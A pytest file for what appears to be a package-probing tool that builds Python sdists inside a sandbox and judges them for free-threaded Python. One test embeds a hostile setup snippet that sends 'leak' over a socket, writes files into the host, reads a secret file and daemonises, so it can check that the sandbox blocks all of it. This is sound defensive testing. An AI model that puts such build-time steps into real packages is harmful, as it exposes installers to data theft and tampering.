"""Releases that ship only an sdist: built inside the sandbox, offline, then judged.

Each sdist is made at test time (tests/sdistbuild.py: an in-tree backend) and
served, with the wheels of its build requirements, by the loopback index.
"""

from __future__ import annotations

import os
import socket
import time
from pathlib import Path

import pytest

from testkit.indexserver import IndexServer
from testkit.wheelbuild import Extension, build_pure_wheel
from tests.probe.test_hostile import survivors
from tests.sdistbuild import build_sdist
from tracker.config import load_settings
from tracker.models import ModuleOutcome, ProbeResult, Status
from tracker.probe.sandbox import Limits, choose_sandbox
from tracker.probe.sdist import (
    BUILD_LIMITS,
    PURE_DETAIL,
    build_requires,
    extension_files,
    probe_sdist,
)
from tracker.pythons.discover import Interpreter


@pytest.fixture
def py314t(interpreters: dict[str, Interpreter]) -> Interpreter:
    return interpreters["3.14t"]


def judge(
    sdist: Path, interpreter: Interpreter, *, extra: tuple[Path, ...] = (),
    build_limits: Limits = BUILD_LIMITS, level: str | None = None,
) -> ProbeResult:  # fmt: skip
    """Serve ``sdist`` and ``extra`` wheels on a loopback index; judge the release."""
    name, version = sdist.name.removesuffix(".tar.gz").rsplit("-", 1)
    with IndexServer() as index:
        for path in (sdist, *extra):
            index.add_wheel_file(path)
        return probe_sdist(
            name, version, interpreter=interpreter, sandbox=choose_sandbox(level=level),
            uv_cache_dir=load_settings().uv_cache_dir, index_url=index.index_url,
            build_limits=build_limits,
        )  # fmt: skip


def test_a_pure_sdist_is_pure_on_a_probe(py314t: Interpreter, tmp_path: Path) -> None:
    # the build requirement comes from the loopback index; the backend imports it
    helper = build_pure_wheel(tmp_path / "wheels", "ftbuildhelp",
                              {"ftbuildhelp/__init__.py": "USED = True\n"})  # fmt: skip
    sdist = build_sdist(
        tmp_path / "sdists", "ftpuresdist", {"ftpuresdist/__init__.py": "VALUE = 1\n"},
        requires=("ftbuildhelp",), pre="import ftbuildhelp\nassert ftbuildhelp.USED",
    )  # fmt: skip
    result = judge(sdist, py314t, extra=(helper,))
    assert result.status is Status.PURE, result.detail + result.stderr_tail
    assert result.detail == PURE_DETAIL
    assert result.installed == ("ftpuresdist-1.0-py3-none-any.whl",)
    assert result.version == "1.0" and result.target == "3.14t"
    assert result.sandbox.startswith("bwrap") and result.probed_at
    assert result.timings["build"] > 0


def test_a_build_requirement_asked_for_at_build_time_is_staged(
    py314t: Interpreter, tmp_path: Path
) -> None:
    helper = build_pure_wheel(tmp_path / "wheels", "ftlatehelp",
                              {"ftlatehelp/__init__.py": ""})  # fmt: skip
    sdist = build_sdist(
        tmp_path / "sdists", "ftdynamic", {"ftdynamic/__init__.py": ""},
        dynamic=("ftlatehelp",), pre="import ftlatehelp",
    )  # fmt: skip
    result = judge(sdist, py314t, extra=(helper,))
    assert result.status is Status.PURE, result.detail + result.stderr_tail


@pytest.mark.parametrize(("kind", "status"), [("good", Status.READY),
                                               ("bad", Status.GIL_REENABLED)])  # fmt: skip
def test_an_sdist_with_a_c_extension_is_built_and_probed(
    py314t: Interpreter, tmp_path: Path, kind: str, status: Status
) -> None:
    source = Extension("ftcsdist._core", kind).source()
    sdist = build_sdist(
        tmp_path / "sdists", "ftcsdist",
        {"ftcsdist/__init__.py": "from ftcsdist import _core\n"}, c_sources={"_core": source},
    )  # fmt: skip
    result = judge(sdist, py314t)
    assert result.status is status, result.detail + result.stderr_tail
    assert result.detail.startswith("built from sdist (ftcsdist-1.0-cp314-cp314t-linux_x86_64.whl)")
    outcomes = {m.name: m.outcome for m in result.modules}
    expected = ModuleOutcome.OK if kind == "good" else ModuleOutcome.GIL_REENABLED
    assert outcomes["ftcsdist._core"] is expected
    assert [(c.module, c.owner) for c in result.culprits] == (
        [("ftcsdist._core", "ftcsdist")] if kind == "bad" else []
    )
    assert result.timings["build"] > 0 and result.timings["imports"] >= 0


def test_a_failing_build_stays_sdist_only_with_the_reason(
    py314t: Interpreter, tmp_path: Path
) -> None:
    sdist = build_sdist(
        tmp_path / "sdists", "ftbroken", {"ftbroken/__init__.py": ""},
        pre="raise RuntimeError('ftbroken cannot be built here')",
    )  # fmt: skip
    result = judge(sdist, py314t)
    assert result.status is Status.SDIST_ONLY
    assert result.detail.startswith("the sdist did not build: ")
    assert "ftbroken cannot be built here" in result.detail
    assert "RuntimeError" in result.stderr_tail


def test_a_build_requirement_missing_from_the_index_is_the_reason(
    py314t: Interpreter, tmp_path: Path
) -> None:
    sdist = build_sdist(tmp_path / "sdists", "ftneedsghost", {"ftneedsghost/__init__.py": ""},
                        requires=("ftghostbackend",))  # fmt: skip
    result = judge(sdist, py314t)
    assert result.status is Status.SDIST_ONLY
    assert "build requirements cannot be installed" in result.detail
    assert "ftghostbackend" in result.detail


def test_a_build_over_its_time_limit_is_sdist_only(py314t: Interpreter, tmp_path: Path) -> None:
    sdist = build_sdist(tmp_path / "sdists", "ftslowbuild", {"ftslowbuild/__init__.py": ""},
                        pre="import time\ntime.sleep(600)")  # fmt: skip
    limits = Limits(wall_seconds=8, idle_seconds=8, cpu_seconds=30, tmp_bytes=256 << 20)
    started = time.monotonic()
    result = judge(sdist, py314t, build_limits=limits)
    assert time.monotonic() - started < 60
    assert result.status is Status.SDIST_ONLY
    assert result.detail == "the sdist did not build: the build took over 8s"


@pytest.mark.parametrize("level", ["bwrap", "unshare"])
def test_a_hostile_setup_runs_only_inside_the_sandbox(
    py314t: Interpreter, tmp_path: Path, level: str
) -> None:
    """The backend tries to reach a server on the host, write into the host's
    file system and read a root-only file, then daemonises; none of it works, and the
    build still finishes (the package is judged by the wheel it made)."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    outside = tmp_path / "written-by-the-build"
    secret = tmp_path / "secret"
    secret.write_text("s3cr3t-sdist")
    secret.chmod(0o600)
    tmp_path.chmod(0o755)
    attack = f"""import os, socket, subprocess
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"leak")
    connected = "connected"
except OSError as exc:
    connected = "refused: " + str(exc)
for path in ({str(outside)!r}, "/usr/ftsdist-owned", os.path.expanduser("~/ftsdist-owned")):
    try:
        open(path, "w").write("owned")
    except OSError:
        pass
try:
    leaked = open({str(secret)!r}).read()
except OSError:
    leaked = ""
subprocess.Popen(["/bin/sh", "-c", "exec -a fthostilesdist-daemon sleep 1000"],
                 start_new_session=True)
os.makedirs(NAME, exist_ok=True)
open(os.path.join(NAME, "found.py"), "w").write(f"CONNECTED = {{connected!r}}\\nLEAKED = {{leaked!r}}\\n")"""
    sdist = build_sdist(tmp_path / "sdists", "fthostilesdist",
                        {"fthostilesdist/__init__.py": ""}, pre=attack)  # fmt: skip
    try:
        result = judge(sdist, py314t, level=level)
        with pytest.raises(TimeoutError):
            listener.accept()
    finally:
        listener.close()
    assert result.status is Status.PURE, result.detail + result.stderr_tail
    assert result.sandbox.startswith(level)
    assert not outside.exists()
    assert not Path("/usr/ftsdist-owned").exists()
    assert not Path(os.path.expanduser("~/ftsdist-owned")).exists()
    time.sleep(0.2)
    assert survivors("fthostilesdist-daemon") == []


def test_build_requires_are_read_without_unpacking(tmp_path: Path) -> None:
    declared = build_sdist(tmp_path, "ftdeclared", {}, requires=("flit_core>=3.9,<4",))
    assert build_requires(declared) == ["flit_core>=3.9,<4"]
    with_setuptools = build_sdist(tmp_path, "ftsetup", {}, requires=("setuptools>=61",))
    assert build_requires(with_setuptools) == ["setuptools>=61", "wheel"]
    legacy = tmp_path / "ftlegacy-1.0.tar.gz"
    import tarfile

    with tarfile.open(legacy, "w:gz") as archive:
        archive.add(declared, arcname="ftlegacy-1.0/setup.py")
    assert build_requires(legacy) == ["setuptools>=40.8.0", "wheel"]
    broken = tmp_path / "ftbroken-1.0.tar.gz"
    broken.write_bytes(b"not gzip at all")
    with pytest.raises(ValueError, match=r"cannot read ftbroken-1\.0\.tar\.gz"):
        build_requires(broken)


def test_extension_files_are_judged_by_the_interpreters_suffixes(tmp_path: Path) -> None:
    import zipfile

    wheel = tmp_path / "ftmix-1.0-cp314-cp314t-linux_x86_64.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        for name in ("ftmix/__init__.py", "ftmix/_a.cpython-314t-x86_64-linux-gnu.so",
                     "ftmix/_b.abi3.so", "ftmix/data.txt"):  # fmt: skip
            archive.writestr(name, b"")
    suffixes = (".cpython-314t-x86_64-linux-gnu.so", ".so")
    assert extension_files(wheel, suffixes) == [
        "ftmix/_a.cpython-314t-x86_64-linux-gnu.so", "ftmix/_b.abi3.so",
    ]  # fmt: skip
    assert extension_files(wheel, (".pyd",)) == []
